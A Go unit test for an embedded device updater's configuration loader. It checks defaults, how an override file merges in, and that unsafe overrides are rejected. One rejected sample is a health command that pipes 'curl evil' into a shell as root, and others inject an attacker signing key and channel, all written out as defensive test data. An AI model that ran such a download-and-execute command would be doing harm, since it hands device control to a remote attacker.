package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestLoadAndOverride(t *testing.T) {
	dir := t.TempDir()
	img, over := filepath.Join(dir, "updater.yaml"), filepath.Join(dir, "override.yaml")
	os.WriteFile(img, []byte("server: http://10.0.2.100:8080\nchannel: stable\nchannels: [beta]\nboard: qemu\nkeys: [RWSkey]\nhealth:\n  units: [demo-hello.service]\n"), 0o644)
	c, err := Load(img, over)
	if err != nil {
		t.Fatal(err)
	}
	if c.Poll != 15*time.Minute || c.Health.Deadline != 5*time.Minute || c.Health.Units[0] != "demo-hello.service" {
		t.Errorf("defaults: %+v", c)
	}
	os.WriteFile(over, []byte("channel: beta\npoll: 2m\n"), 0o644)
	c, err = Load(img, over)
	if err != nil || c.Channel != "beta" || c.Poll != 2*time.Minute || c.Server != "http://10.0.2.100:8080" || len(c.Health.Units) != 1 {
		t.Errorf("override: %+v %v", c, err)
	}
	for name, body := range map[string]string{
		"unknown field": "channel: beta\nchanel: x\n",
		"short poll":    "poll: 5s\n",
		// The data partition is writable by whoever has a shell or the
		// card: it may not change what the device trusts or runs as root.
		"keys":                "keys: [RWSattacker]\n",
		"health command":      "health:\n  commands: [[/bin/sh, -c, 'curl evil | sh']]\n",
		"channel not allowed": "channel: attacker\n",
		"not yaml":            "channel: [\n",
	} {
		os.WriteFile(over, []byte(body), 0o644)
		if _, err := Load(img, over); err == nil {
			t.Errorf("%s: accepted", name)
		} else {
			t.Logf("%s: %v", name, err)
		}
	}
	os.WriteFile(img, []byte("server: http://x\nchannel: s\nboard: qemu\n"), 0o644)
	os.Remove(over)
	if _, err := Load(img, over); err == nil || !strings.Contains(err.Error(), "no trusted keys") {
		t.Errorf("no keys: %v", err)
	}
}
